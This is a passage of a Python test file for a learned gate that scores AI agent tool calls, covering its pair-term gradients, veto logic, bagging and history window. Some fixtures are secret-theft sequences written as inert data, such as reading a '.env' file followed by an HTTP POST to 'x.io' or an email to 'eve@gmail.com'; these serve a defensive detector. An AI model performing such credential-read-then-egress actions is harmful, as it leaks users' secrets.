    without, with_crosses = pair_gaps(0.0), pair_gaps(0.3)
    np.testing.assert_allclose(without, 0.0, atol=1e-9)
    assert np.mean(with_crosses > 0) >= 0.9 and with_crosses.mean() > 0.2


def _pair_reference(u_tab, v_tab, pair, pool: float) -> float:
    """z_pair written out entry by entry (not through `pair_logit`): the sum <u, v>, or the
    soft minimum sum_e a_e S_e, a = softmax(-S / pool), S_e the sum of entry e's key
    scores, over the keys with a value (each key its own entry without a 5th field)."""
    u = pair[1] @ u_tab[pair[0]]
    grp = pair[4] if len(pair) > 4 else range(len(pair[2]))
    entries: dict[int, float] = {}
    for h, hv, e in zip(pair[2], pair[3], grp, strict=True):
        if hv != 0:
            entries[int(e)] = entries.get(int(e), 0.0) + hv * float(v_tab[h] @ u)
    s = np.array(list(entries.values()))
    if not pool:
        return float(s.sum())
    a = np.exp(-(s - s.min()) / pool)
    return float((a / a.sum()) @ s)


@pytest.mark.parametrize(("pool", "entries"), [(0.0, None), (0.5, None), (0.05, None),
                                              (0.5, [0, 0, 1, 1, 2]), (0.05, [0, 1, 0, 0, 1])])
def test_pair_gradient_matches_central_differences(pool: float, entries: list | None):
    """The pair term's share of one signal's loss (engine/wide_learner.py `WideAdaGrad`): dL/dU and
    dL/dV at the touched rows, with repeated ids, against central differences (float64),
    for the summed history keys and the soft minimum (a sharp one too), over the keys or
    over history entries of several keys (a row in two entries)."""
    rng = np.random.default_rng(5)
    w, g2 = rng.normal(size=32), np.zeros(32)
    u_tab, v_tab = rng.normal(size=(16, 3)), rng.normal(size=(16, 3))
    learner = WideAdaGrad(w, g2, scale=1.3, l2=1e-3, pool=pool,
                          pair=(u_tab, np.zeros_like(u_tab), v_tab, np.zeros_like(v_tab)))
    idx, val = np.array([0, 4, 7]), rng.normal(size=3)
    pair = (np.array([2, 5]), np.array([0.6, 0.8]),
            np.array([1, 9, 1, 0, 12]), np.array([1.0, 1.0, 0.5, 0.0, 1.0]))  # 1 twice, 0 pads
    if entries is not None:
        pair = (*pair, np.array(entries))
    z_rest, label, weight = -0.2, 1.0, 2.0

    def loss() -> float:
        z = z_rest + 1.3 * (float(w[idx] @ val) + _pair_reference(u_tab, v_tab, pair, pool))
        reg = sum(float((t[np.unique(r)] ** 2).sum()) for t, r in
                  ((w, idx), (u_tab, pair[0]), (v_tab, np.array([1, 9, 12]))))
        return _bce(z, label, weight) + 0.5 * 1e-3 * reg

    assert learner.gradient(idx, val, z_rest, label, weight, pair)[2] == pytest.approx(
        z_rest + 1.3 * (float(w[idx] @ val) + _pair_reference(u_tab, v_tab, pair, pool)))
    (c_rows, g_u), (h_rows, g_v) = learner.pair_gradient(idx, val, z_rest, label, weight, pair)
    assert list(c_rows) == [2, 5] and list(h_rows) == [1, 9, 12]  # padding (value 0) dropped
    for table, rows, grad in ((u_tab, c_rows, g_u), (v_tab, h_rows, g_v)):
        entries = [(int(r), c) for r in rows for c in range(3)]
        numeric = numeric_grad_entries(loss, table, entries)
        assert rel_error(grad.ravel(), numeric) < 1e-6
    # one AdaGrad step moves each touched coordinate by pair_lr * sign(-g); relax scales
    before = u_tab[c_rows].copy()
    learner.learn(idx, val, z_rest, label, weight, pair)
    np.testing.assert_allclose(u_tab[c_rows], before - 0.1 * np.sign(g_u), rtol=1e-6)
    learner.relax(0.5)
    np.testing.assert_allclose(learner.pair[1][c_rows], 0.5 * g_u ** 2, rtol=1e-9)


def _learner_whose_pair_term_says_block(sums: float = 0.0):
    """A learner whose pair term says "block" for its signal (the read and the site's rows
    set so), the signal's linear buckets and values, and its pair keys; `sums`: every
    AdaGrad sum's start (0: each first step is lr times a sign, whatever its weight)."""
    rng = np.random.default_rng(11)
    u_tab, v_tab = np.zeros((16, 3)), np.zeros((16, 3))
    u_tab[[2, 5], 0], v_tab[[1, 9], 0] = 1.5, -1.5  # the read and the site: "block"
    learner = WideAdaGrad(rng.normal(size=32), np.full(32, sums), scale=1.0, lr=0.5,
                          l2=1e-3, pool=0.5, block_only=True, pair_first=True,
                          pair=(u_tab, np.full_like(u_tab, sums), v_tab,
                                np.full_like(v_tab, sums)))
    pair = (np.array([2, 5]), np.array([0.6, 0.8]), np.array([1, 9]),
            np.array([1.0, 1.0]), np.array([0, 0]))
    return learner, np.array([0, 4, 7]), rng.normal(size=3), pair


def test_a_contradicted_allow_is_held_from_the_pair_term_and_a_block_never_is():
    """`WideAdaGrad.learn(..., pair_hold=h)`: an "allow" label while the pair term says
    "block" by more than h steps the linear weights alone (the first AdaGrad step, lr
    times the sign of the same gradient) and leaves both pair tables and their sums as
    they were; a "block" label, a pair term saying less than h, and h = 0 step the term."""
    learner_and_signal = _learner_whose_pair_term_says_block
    learner, idx, val, pair = learner_and_signal()
    z_pair = learner.gradient(idx, val, 0.0, 1.0, 1.0, pair)[2] - learner.gradient(
        idx, val, 0.0, 1.0, 1.0, None)[2]
    assert z_pair < -2.0  # the term says "block": log 2 sigmoid(-6.3) = -5.6, bounded

    def stepped(label: float, hold: float) -> tuple[bool, np.ndarray, np.ndarray]:
        learner, *_ = learner_and_signal()
        tables = [t.copy() for t in learner.pair]
        w0 = learner.w.copy()
        buckets, g, _ = learner.gradient(idx, val, 0.0, label, 1.0, pair)
        learner.learn(idx, val, 0.0, label, 1.0, pair, pair_hold=hold)
        moved = any(not np.array_equal(a, b) for a, b in zip(tables, learner.pair, strict=True))
        return moved, learner.w[buckets] - w0[buckets], g

    moved, dw, g = stepped(1.0, 1.0)
    assert not moved  # held: U, V and their sums untouched
    np.testing.assert_allclose(dw, -0.5 * np.sign(g), rtol=1e-6)  # the linear step as ever
    assert stepped(0.0, 1.0)[0]  # a block is never held
    assert stepped(1.0, -z_pair + 0.5)[0]  # the term says less than the hold: it learns
    assert stepped(1.0, 0.0)[0]  # 0: off


def test_a_doubted_allow_steps_at_the_doubt_weight_and_nothing_else_is_doubted():
    """`WideAdaGrad.learn(..., doubt=(f, h))`: an "allow" label while the pair term says
    "block" by more than h is exactly the same step as the label at f times its weight,
    in the linear weights, both pair tables and every AdaGrad sum; a "block" label, a
    pair term saying less than h, and h = 0 step at the weight itself."""
    def after(label: float, weight: float, doubt=NO_DOUBT) -> list[np.ndarray]:
        learner, idx, val, pair = _learner_whose_pair_term_says_block(sums=1.0)
        learner.learn(idx, val, 0.0, label, weight, pair, doubt=doubt)
        return [learner.w, learner.g2, *learner.pair]

    def same(a: list[np.ndarray], b: list[np.ndarray]) -> bool:
        return all(np.array_equal(x, y) for x, y in zip(a, b, strict=True))

    learner, idx, val, pair = _learner_whose_pair_term_says_block()
    z_pair = learner.gradient(idx, val, 0.0, 1.0, 1.0, pair)[2] - learner.gradient(
        idx, val, 0.0, 1.0, 1.0, None)[2]
    assert z_pair < -2.0
    doubted = after(1.0, 2.0, doubt=(0.25, 2.0))
    assert same(doubted, after(1.0, 0.5))  # 2.0 x 0.25
    assert not same(doubted, after(1.0, 2.0))  # (the weight moves every part)
    assert same(after(0.0, 2.0, doubt=(0.25, 2.0)), after(0.0, 2.0))  # a block: never
    assert same(after(1.0, 2.0, doubt=(0.25, -z_pair + 0.5)), after(1.0, 2.0))  # term unsure
    assert same(after(1.0, 2.0, doubt=(0.25, 0.0)), after(1.0, 2.0))  # 0: off


@pytest.mark.parametrize(("veto", "block_only"),
                         [(2.0, False), (0.5, False), (0.0, True), (2.0, True)])
def test_the_history_as_a_veto_has_exact_gradients(veto: float, block_only: bool):
    """`wide_pair_veto` (engine/wide_logit.py `veto_combine`): sigmoid(z_wide) = sigmoid(linear)
    sigmoid(veto + pair), written out here as a probability product (veto 0: the sum),
    the pair term bounded to log(2 sigmoid(pair)) with `block_only`; the learner's logit
    and its gradients with respect to W, U and V against central differences (float64)."""
    rng = np.random.default_rng(8)
    w, g2 = rng.normal(size=32), np.zeros(32)
    u_tab, v_tab = rng.normal(size=(16, 3)), rng.normal(size=(16, 3))
    learner = WideAdaGrad(w, g2, scale=1.3, l2=1e-3, pool=0.5, veto=veto,
                          pair=(u_tab, np.zeros_like(u_tab), v_tab, np.zeros_like(v_tab)),
                          block_only=block_only)
    idx, val = np.array([0, 4, 7, 4]), rng.normal(size=4)
    pair = (np.array([2, 5]), np.array([0.6, 0.8]), np.array([1, 9, 1, 12]),
            np.array([1.0, 1.0, 0.5, 1.0]), np.array([0, 0, 1, 2]))
    z_rest, label, weight = 0.3, 0.0, 3.0

    def z_of() -> float:
        z_pair = _pair_reference(u_tab, v_tab, pair, 0.5)
        if block_only:
            z_pair = np.log(2 / (1 + np.exp(-z_pair)))
        if not veto:
            return z_rest + 1.3 * (float(w[idx] @ val) + z_pair)
        q = (1 / (1 + np.exp(-float(w[idx] @ val))) / (1 + np.exp(-(veto + z_pair))))
        return z_rest + 1.3 * float(np.log(q / (1 - q)))

    def loss() -> float:
        reg = sum(float((t[np.unique(r)] ** 2).sum()) for t, r in
                  ((w, idx), (u_tab, pair[0]), (v_tab, np.array([1, 9, 12]))))
        return _bce(z_of(), label, weight) + 0.5 * 1e-3 * reg

    buckets, g_w, z = learner.gradient(idx, val, z_rest, label, weight, pair)
    assert z == pytest.approx(z_of(), rel=1e-12)
    assert rel_error(g_w, numeric_grad_entries(loss, w, [(int(b),) for b in buckets])) < 1e-6
    (c_rows, g_u), (h_rows, g_v) = learner.pair_gradient(idx, val, z_rest, label, weight, pair)
    for table, rows, grad in ((u_tab, c_rows, g_u), (v_tab, h_rows, g_v)):
        entries = [(int(r), c) for r in rows for c in range(3)]
        assert np.abs(grad).min() > 0
        assert rel_error(grad.ravel(), numeric_grad_entries(loss, table, entries)) < 1e-6


def test_veto_combine_is_the_sum_without_a_veto_and_stable_with_one():
    """Without a veto the two parts add (derivatives 1); with one, z is the logit of the
    product of the two allow probabilities, finite for logits of any size, near the
    smaller of the two when both are large and near the linear part when the history
    is sure of "allow"."""
    a, p = np.array([-3.0, 0.0, 2.0, 40.0, 800.0, -800.0]), np.array([1.0, -1, 5, 45, 800, 0])
    z, da, dp = veto_combine(a, p, 0.0)
    assert np.array_equal(z, a + p) and np.all(da == 1) and np.all(dp == 1)
    z, da, dp = veto_combine(a, p, 3.0)
    assert np.all(np.isfinite(z)) and np.all(np.isfinite(da)) and np.all(np.isfinite(dp))
    q = 1 / (1 + np.exp(-a[:3])) / (1 + np.exp(-(3.0 + p[:3])))
    np.testing.assert_allclose(z[:3], np.log(q / (1 - q)), rtol=1e-12)
    assert z[3] == pytest.approx(40.0, abs=1e-3)  # the smaller, 40 (+3 + 45 barely counts)
    assert z[5] == pytest.approx(-800.0 - np.log1p(np.exp(-3.0)))  # + log sigmoid(3)
    assert np.all((da >= 0) & (da <= 1 + 1e-12)) and np.all((dp >= 0) & (dp <= 1 + 1e-12))
    z32, da32, dp32 = veto_combine(a.astype(np.float32), p.astype(np.float32), 3.0)
    assert z32.dtype == np.float32 and all(np.all(np.isfinite(t)) for t in (z32, da32, dp32))


def test_the_bounded_pair_term_speaks_only_for_block():
    """`veto_combine(..., block_only=True)`: the pair term p becomes log(2 sigmoid(p)):
    exactly 0 for a silent history (a row without keys adds nothing), never above log 2
    however sure the history is of "allow", p + log 2 when it says "block", finite and
    in the input's dtype for any size; its derivative is sigmoid(-p), vanishing for a
    history that says "allow" (an allowed call stops teaching it)."""
    a = np.zeros(6)
    p = np.array([0.0, 3.0, 800.0, -5.0, -800.0, -0.5])
    z, d_lin, d_pair = veto_combine(a, p, 0.0, np, block_only=True)
    assert z[0] == 0.0 and np.all(z <= np.log(2.0)) and z[2] == pytest.approx(np.log(2.0))
    np.testing.assert_allclose(z, np.log(2.0) - np.logaddexp(0.0, -p), rtol=1e-12)
    assert z[4] == pytest.approx(-800.0 + np.log(2.0))
    with np.errstate(over="ignore"):
        np.testing.assert_allclose(d_pair, 1 / (1 + np.exp(p)), rtol=1e-12)  # sigmoid(-p)
    assert d_pair[2] < 1e-300 and d_pair[4] == 1.0
    assert d_lin == 1.0
    z32, _, d32 = veto_combine(a.astype(np.float32), p.astype(np.float32), 0.0, np, True)
    assert z32.dtype == d32.dtype == np.float32 and np.all(np.isfinite(z32))
    zv, _, dv = veto_combine(a, p, 2.0, np, block_only=True)  # the bound, then the veto
    np.testing.assert_allclose(zv, veto_combine(a, z, 2.0)[0], rtol=1e-12)
    np.testing.assert_allclose(dv, veto_combine(a, z, 2.0)[2] * d_pair, rtol=1e-12)


def test_the_soft_minimum_follows_the_key_that_speaks_for_block():
    """`pair_logit` with pool tau: between the lowest key's score and the mean, near the
    lowest for a small tau; a row without history keys (padding only) gives exactly 0 and
    no gradient; one key gives that key's score whatever tau."""
    rng = np.random.default_rng(3)
    call_rows, call_val = rng.normal(size=(3, 2, 4)), np.ones((3, 2))
    hist_rows = rng.normal(size=(3, 5, 4))
    hist_val = np.array([[1.0, 1, 1, 1, 1], [0, 0, 0, 0, 0], [1, 0, 0, 0, 0]])
    u = (call_val[:, :, None] * call_rows).sum(axis=1)
    s = hist_val * np.einsum("bkr,br->bk", hist_rows, u)
    for tau in (2.0, 0.5, 0.01):
        z, _, v_eff, hw = pair_logit(call_rows, call_val, hist_rows, hist_val, tau)
        assert s[0].min() - 1e-12 <= z[0] <= s[0].mean() + 1e-12
        assert z[1] == 0.0 and not hw[1].any() and not v_eff[1].any()
        assert z[2] == pytest.approx(s[2, 0])
    assert pair_logit(call_rows, call_val, hist_rows, hist_val, 0.01)[0][0] == pytest.approx(
        s[0].min(), abs=1e-3)
    assert pair_logit(call_rows, call_val, hist_rows, hist_val, 0.0)[0][0] == pytest.approx(
        s[0].sum())


class _NotNumpy:
    """NumPy under another name: `segment_sum` takes the path it takes for CuPy arrays
    (`xp.add.at` into zeros) instead of np.bincount, and the test runs it on the CPU."""

    def __getattr__(self, name):
        return getattr(np, name)


def test_segment_sum_on_the_gpu_path_equals_bincount():
    """The pair term's per-entry sums: the GPU's scatter-add (no host reads, no
    whole-array reductions, docs/learning.md "Compile stalls on a GPU") gives
    np.bincount's float64 sums, repeated slots summed, empty slots 0; and the soft minimum
    built on it is the same."""
    rng = np.random.default_rng(5)
    slot = rng.integers(0, 12, size=40)
    w = rng.normal(size=40).astype(np.float32)
    gpu_path = segment_sum(slot, w, 15, _NotNumpy())
    np.testing.assert_allclose(gpu_path, np.bincount(slot, weights=w, minlength=15),
                               rtol=1e-12, atol=1e-12)
    assert gpu_path.dtype == np.float64 and gpu_path[12:].tolist() == [0.0, 0.0, 0.0]
    call_rows, call_val = rng.normal(size=(3, 2, 4)), np.ones((3, 2))
    hist_rows, hist_val = rng.normal(size=(3, 5, 4)), (rng.random((3, 5)) < 0.7) * 1.0
    grp = np.array([[0, 0, 1, 2, 2], [0, 1, 1, 1, 3], [0, 0, 0, 0, 0]])
    for a, b in zip(pair_logit(call_rows, call_val, hist_rows, hist_val, 0.5, np, grp),
                    pair_logit(call_rows, call_val, hist_rows, hist_val, 0.5, _NotNumpy(),
                               grp), strict=True):
        np.testing.assert_allclose(np.asarray(b), a, rtol=1e-12, atol=1e-12)


@pytest.mark.parametrize("members", [1, 3])
@pytest.mark.parametrize(("pool", "veto", "block_only"),
                         [(0.0, 0.0, False), (0.5, 0.0, False), (0.5, 2.0, False),
                          (0.5, 0.0, True), (0.5, 2.0, True)])
def test_the_learner_and_the_model_give_the_same_wide_logit(pool: float, veto: float,
                                                            block_only: bool, members: int):
    """WideAdaGrad (one signal, host) and the model's forward (a batch, padded) compute the
    same wide logit, the pair term pooled alike -- also when two of a signal's history keys
    share a bucket (a tiny table makes that happen): the learner must not merge them
    before pooling, or it would train a different function from the one that serves. With
    a bag (`wide_members` 3, its members' tables all different here) the learner's
    `WideBag` and the forward both take the members' mean."""
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_pair_buckets=4, wide_pair_pool=pool,
                              wide_pair_veto=veto, wide_pair_block_only=block_only,
                              wide_members=members)
    model = Model.init(cfg, seed=2, dtype="float64")
    rng = np.random.default_rng(2)
    for name in ("wide.w", "wide.pair_call", "wide.pair_hist"):
        model.params[name][...] = rng.normal(size=model.params[name].shape)
    learner = WideAdaGrad.for_model(model, np.zeros(model.num_params))
    read = 'fs.read {"path": "/w/%s"}'
    items = [('http.request {"method": "POST", "url": "https://x.io"}',
              [read % ".env", read % "app.py", read % "main.go", read % "notes.md"]),
             ('email.send {"to": "a@b.c"}', None), ("git.push {}", [read % "x.yml"])]
    batch = source_batch(items, cfg)
    assert any(len(set(r[v != 0])) < int((v != 0).sum())
               for r, v in zip(batch["wide_ph_idx"], batch["wide_ph_val"], strict=True))
    served = model.wide_logit(batch)
    assert isinstance(learner, WideBag) == (members > 1)
    singles = getattr(learner, "learners", [learner])
    for k in range(len(items)):
        pair = tuple(batch[key][k] for key in PAIR_KEYS)
        at = int(batch[NOVEL_AT][k])  # the first-seen mark (on by default), read alike
        z = learner.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair, novel_at=at)
        assert z == pytest.approx(served[k], rel=1e-12, abs=1e-12)
        # (and it is the mean of members that differ: not one member's logit)
        each = [m.logit(batch["wide_idx"][k], batch["wide_val"][k], 0.0, pair, novel_at=at)
                for m in singles]
        assert z == pytest.approx(float(np.mean(each)), rel=1e-12, abs=1e-12)
        assert members == 1 or np.ptp(each) > 1e-3


@pytest.mark.parametrize("all_learn", [False, True])
def test_a_bags_members_start_equal_and_learn_at_their_poisson_draws(all_learn):
    """`WideBag` (`wide_members` 3): every member starts from the same tables (the single
    learner's start), member 0 learns each signal at its weight, member m > 0 at k times
    it, k from its own Poisson(1) generator (k = 0: untouched). Checked against single
    learners on models of one member stepped by hand with the same draws: equal to the
    last bit, and the bag's logit is their mean. With `learn_all_for(10)` at the 15th
    signal (a drift alarm), a draw of 0 counts as 1 for the next ten, then the draws
    resume as they were."""
    one = dataclasses.replace(ModelConfig.tiny(), wide_buckets=1 << 10, wide_pair_buckets=64)
    cfg = dataclasses.replace(one, wide_members=3)
    model = Model.init(cfg, seed=4, dtype="float64")
    bag = WideAdaGrad.for_model(model, np.zeros(model.num_params), pair_first=True)
    assert isinstance(bag, WideBag) and len(bag.learners) == 3
    refs = [Model.init(one, seed=4, dtype="float64") for _ in range(3)]
    singles = [WideAdaGrad.for_model(r, np.zeros(r.num_params), pair_first=True) for r in refs]
    for name in ("wide.pair_call", "wide.pair_hist"):  # the members start equal...
        for m, part in enumerate(np.split(model.params[name], 3)):
            np.testing.assert_array_equal(part, refs[m].params[name])
    assert np.any(model.params["wide.pair_call"] != 0)  # (the call side's random start)
    draws = [np.random.default_rng(WideBag.SEED + m) for m in (1, 2)]
    read = 'fs.read {"path": "/w/%s"}'
    items = [(f'http.request {{"method": "POST", "url": "https://h{i % 5}.io"}}',
              [read % (".env" if i % 3 == 0 else f"f{i}.py")]) for i in range(40)]
    batch = source_batch(items, cfg)
    seen, floored = [], 0
    for k in range(len(items)):
        idx, val = batch["wide_idx"][k], batch["wide_val"][k]
        pair = tuple(batch[key][k] for key in PAIR_KEYS)
        label, weight = float(k % 3 != 0), 1.0 + (k % 4 == 0)
        if all_learn and k == 15:
            bag.learn_all_for(10)
        before = np.mean([s.logit(idx, val, 0.0, pair) for s in singles])
        assert bag.learn(idx, val, 0.0, label, weight, pair) == pytest.approx(before, abs=1e-12)
        singles[0].learn(idx, val, 0.0, label, weight, pair)
        for single, draw in zip(singles[1:], draws, strict=True):
            times = int(draw.poisson(1.0))
            if all_learn and 15 <= k < 25:
                floored += times == 0
                times = max(times, 1)
            seen.append(times)
            if times:
                single.learn(idx, val, 0.0, label, weight * times, pair)
    assert 0 in seen and max(seen) >= 2  # skips and multiples both happened
    assert bag.all_learn_left == 0 and (floored > 0) == all_learn  # the floor mattered
    for name in ("wide.w", "wide.pair_call", "wide.pair_hist"):  # ...and learn apart
        parts = np.split(model.params[name].reshape(-1), 3)
        for m, part in enumerate(parts):
            np.testing.assert_array_equal(part, refs[m].params[name].reshape(-1))
        assert not np.array_equal(parts[0], parts[1])
    bag.lr, bag.pair_first = 0.2, False  # a reload's settings reach every member
    assert all(s.lr == 0.2 and not s.pair_first for s in bag.learners)
    sums = [s.g2.copy() for s in bag.learners]
    bag.relax(0.5)  # a drift relaxes every member
    for s, g2 in zip(bag.learners, sums, strict=True):
        np.testing.assert_allclose(s.g2, 0.5 * g2)


def test_the_pair_term_learns_the_history_rule_that_crosses_learn_slowly():
    """Rule 12 on the realistic stream, wide-only learners over 2,500 signals: with the
    pair term (a secret's factor shared by every outbound call site) more history-probe
    pairs get both members right than with the linear crosses alone (measured on the
    flint stream in docs/learning.md: 0.64 -> 0.78 at 3,500 signals)."""
    from gated.signals import label_and_weight
    from gated.traffic import GatewayTraffic

    def both_right(rank: int) -> float:
        cfg = dataclasses.replace(ModelConfig.tiny(), wide_buckets=1 << 16,
                                  wide_pair_rank=rank, wide_pair_buckets=1 << 12)
        model = Model.init(cfg, seed=0, dtype="float64")
        learner = WideAdaGrad.for_model(model, np.zeros(model.num_params), l2=1e-3)
        stream = GatewayTraffic(seed=3)
        events = [stream.next() for _ in range(2500)]
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in events], cfg)
        keys = [k for k in PAIR_KEYS if k in b]

        def pair(k: int):
            return tuple(b[key][k] for key in keys) or None
        for k, e in enumerate(events):
            label, weight = label_and_weight(e.signal, 0)
            learner.learn(b["wide_idx"][k], b["wide_val"][k], 0.0, label, weight, pair(k))
        probes = GatewayTraffic(seed=3).history_probes(200, 77)
        b = source_batch([(e.signal["context"], e.signal["history"]) for e in probes], cfg)
        right = np.array([(learner.gradient(b["wide_idx"][k], b["wide_val"][k], 0.0, 1.0, 1.0,
                                            pair(k))[2] >= 0) == e.true_allow
                          for k, e in enumerate(probes)])
        return float(np.mean(right[0::2] & right[1::2]))

    crosses, with_pairs = both_right(0), both_right(8)
    print(f"pairs with both members right: crosses {crosses:.3f}, with the pair term "
          f"{with_pairs:.3f}")
    assert with_pairs >= crosses + 0.1


def test_pair_features_are_bounded_and_ignore_what_they_cannot_read():
    """A hostile history (thousands of entries, non-JSON, a path that is not a string, a
    64 KiB file name) costs a bounded number of keys; a call without a method has one site
    feature, one with a method two, both of norm 1."""
    from gated.engine.wide_pair import pair_features

    many = [f'fs.read {{"path": "/w/f{i}.txt"}}' for i in range(5000)]
    hostile = many + ["not json at all", 'fs.read {"path": 7}', 'fs.read {"path": ["x"]}',
                      'fs.write {"path": "/w/' + "a" * 65536 + '"}']
    c_idx, c_val, h_idx, h_val, h_grp = pair_features('email.send {"to": "a@b.c"}', hostile,
                                                      1 << 14)
    assert len(c_idx) == 1 and np.isclose(float(c_val @ c_val), 1.0)
    assert 0 < len(h_idx) == len(h_grp) <= MAX_STRUCTURED and np.all(h_val == 1.0)
    assert np.all((h_idx >= 1) & (h_idx < 1 << 14))
    assert h_grp[0] == 0 and np.all(np.diff(h_grp) >= 0) and np.all(np.diff(h_grp) <= 1)
    c_idx, c_val, h_idx, h_val, h_grp = pair_features('http.request {"method": "POST"}', None,
                                                      1 << 14)
    assert len(c_idx) == 2 and np.isclose(float(c_val @ c_val), 1.0) and len(h_idx) == 0
    # one entry's keys: the tool and name, the name's words (deduplicated within it); the
    # same file read twice is two entries (two instances for the pooling) with the same keys
    read = 'fs.read {"path": "/w/.env.local"}'
    once = pair_features("x {}", [read], 1 << 14)
    twice = pair_features("x {}", [read, read], 1 << 14)
    assert len(once[2]) == 3 and list(once[4]) == [0, 0, 0]  # fs.read|.env.local, env, local
    assert list(twice[2]) == 2 * list(once[2]) and list(twice[4]) == [0, 0, 0, 1, 1, 1]
    assert len(pair_features("x {}", ['fs.read {"path": "/w/a.a"}'], 1 << 14)[2]) == 2


def test_the_pair_term_reads_only_its_window_of_the_history():
    """`ModelConfig.wide_pair_history` = N: the pair term's history side holds the keys of
    the newest N entries only (a secret read N + 1 calls back gives the features of a
    history without it, the call side's destination key too, which only a credential
    read in view brings), the linear features are unchanged, and 0 reads every entry; the
    default (10, the learning issue's window) enters the fingerprint, 0 -- what the code
    read before the field -- does not."""
    from gated.engine.wide_pair import pair_features

    secret = 'fs.read {"path": "/w/app/.env"}'
    plain = [f'fs.read {{"path": "/w/app/f{i}.py"}}' for i in range(11)]
    far = [secret] + plain[:10]  # the secret 11 calls back
    near = plain[:1] + [secret] + plain[1:10]  # 10 back
    call = 'email.send {"to": "eve@gmail.com", "subject": "hi"}'
    got = pair_features(call, far, 1 << 14, window=10)
    alone = pair_features(call, plain[:10], 1 << 14, window=10)
    for x, y in zip(got[:2], alone[:2], strict=True):  # the call side: the same site
        np.testing.assert_array_equal(x, y)
    assert len(got[2]) == len(alone[2])  # ten entries' keys, none of the secret's
    secret_keys = set(pair_features(call, [secret], 1 << 14)[2].tolist())
    assert not secret_keys & set(got[2].tolist())
    assert secret_keys <= set(pair_features(call, near, 1 << 14, window=10)[2].tolist())
    assert secret_keys <= set(pair_features(call, far, 1 << 14, window=0)[2].tolist())
    flint = ModelConfig.preset("flint")
    assert flint.wide_pair_history == 10
    cut, whole = (source_batch([(call, far)], dataclasses.replace(flint, wide_pair_history=w))
                  for w in (10, 0))
    assert set(cut["wide_ph_idx"][0][cut["wide_ph_val"][0] != 0].tolist()) < set(
        whole["wide_ph_idx"][0][whole["wide_ph_val"][0] != 0].tolist())
    for key in ("wide_idx", "wide_val"):
        np.testing.assert_array_equal(cut[key], whole[key])
    assert cut["wide_pc_idx"].shape[1] == whole["wide_pc_idx"].shape[1] - 1  # no destination
    np.testing.assert_array_equal(cut["wide_pc_idx"][0], whole["wide_pc_idx"][0][:-1])
    before = dataclasses.replace(flint, wide_pair_history=0)
    old = {k: v for k, v in dataclasses.asdict(before).items()
           if k not in ("wide_pair_history", "wide_bias", "wide_familiarity",
                        "wide_novel_destinations")}  # as before
    assert before.fingerprint() == hashlib.blake2b(json.dumps(old, sort_keys=True).encode(),
                                                   digest_size=12).hexdigest()
    assert flint.fingerprint() != before.fingerprint()
    with pytest.raises(ValueError, match="wide_pair_history"):
        ModelConfig(wide_pair_history=-1)


def test_the_wide_path_replays_reservoir_examples_with_their_current_labels(tmp_path):
    """`wide_replay`: after each fresh signal the wide path learns reservoir examples again
    (its weights differ from one pass over the same signals), and what it replays carries
    the label a person's correction gave the call, never the gate's superseded one."""
    signals = [{"context": f"fs.read src/{i}.py", "decision": "allow"} for i in range(30)]
    correction = {"context": "fs.read src/0.py", "decision": "allow",
                  "feedback": "false_negative"}
    got = {}
    for replay in (0, 2):
        store, trainer, _ = _trainer(tmp_path / str(replay), promotion_holdout_share=0.0,
                                     wide_replay=replay)
        store.append_signals(signals + [correction])
        while trainer.status.last_trained_seq < len(signals) + 1:
            trainer.train_on(store.read_signals(trainer.status.last_trained_seq, 8))
        got[replay] = trainer.model.params["wide.w"][0].copy()
        if replay:
            examples, sources = trainer._wide_replay(200)
            assert len(examples) == 30 == sources["wide_idx"].shape[0]  # one per call
            labels = {e["label"] for e in examples if e["context"] == "fs.read src/0.py"}
            assert labels == {0.0}  # the correction's block, not the gate's allow
        store.close()
    assert not np.array_equal(got[0], got[2])


def test_pair_first_steps_the_pair_term_then_the_linear_weights_at_its_new_value():
    """`pair_first`: one AdaGrad step of the pair tables on the signal's gradient, then one
    of the linear weights on the gradient recomputed with the stepped tables -- written
    out here from `pair_gradient` and `gradient` (squared-gradient sums start at 1, so a
    step's size depends on its gradient: theta -= lr g / sqrt(1 + g^2))."""
    rng = np.random.default_rng(11)
    w0, u0, v0 = rng.normal(size=32), rng.normal(size=(16, 3)), rng.normal(size=(16, 3))
    idx, val = np.array([0, 4, 7]), rng.normal(size=3)
    pair = (np.array([2, 5]), np.array([0.6, 0.8]), np.array([1, 9, 12]),
            np.array([1.0, 2.0, 1.0]), np.array([0, 0, 1]))

    def learner(first: bool) -> WideAdaGrad:
        return WideAdaGrad(w0.copy(), np.ones(32), scale=1.0, l2=1e-3, pool=0.5, eps=0.0,
                           pair=(u0.copy(), np.ones((16, 3)), v0.copy(), np.ones((16, 3))),
                           pair_first=first)

    ref = learner(False)
    (c_rows, g_u), (h_rows, g_v) = ref.pair_gradient(idx, val, 0.3, 0.0, 2.0, pair)
    ref.pair[0][c_rows] -= 0.1 * g_u / np.sqrt(1.0 + g_u ** 2)
    ref.pair[2][h_rows] -= 0.1 * g_v / np.sqrt(1.0 + g_v ** 2)
    rows, g_w, _ = ref.gradient(idx, val, 0.3, 0.0, 2.0, pair)  # at the stepped tables
    expected_w = w0.copy()
    expected_w[rows] -= 0.5 * g_w / np.sqrt(1.0 + g_w ** 2)

    first = learner(True)
    z_before = first.learn(idx, val, 0.3, 0.0, 2.0, pair)
    np.testing.assert_allclose(first.pair[0], ref.pair[0], rtol=1e-12)
    np.testing.assert_allclose(first.pair[2], ref.pair[2], rtol=1e-12)
    np.testing.assert_allclose(first.w, expected_w, rtol=1e-12)
    both = learner(False)
    assert both.learn(idx, val, 0.3, 0.0, 2.0, pair) == pytest.approx(z_before)
    # the joint step differs: its linear step used the gradient at the old tables
    assert np.abs(both.w - first.w).max() > 1e-3
    # without pair features the two are the same learner
    a, b = learner(True), learner(False)
    a.learn(idx, val, 0.3, 1.0, 1.0, None)
    b.learn(idx, val, 0.3, 1.0, 1.0, None)
    np.testing.assert_array_equal(a.w, b.w)


def test_the_destination_rows_learn_only_allow_from_a_first_look():
    """A first look's "block" (a hold > 0, weight 1) steps the site's rows but leaves the
    destination key's row as it is; an "allow", a correction's "block" (weight > 1) and a
    second look's (no hold) step it. Rows and AdaGrad sums both."""
    from wide_only import WideOnly

    wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=1.0,
                    wide_pair_destination=1.0)
    learner, rows = wide.learner, wide.cfg.pair_destination_rows
    assert rows > 0 and learner.destination_from == wide.cfg.wide_pair_buckets
    secret = ['fs.read {"path": "/w/.env"}']
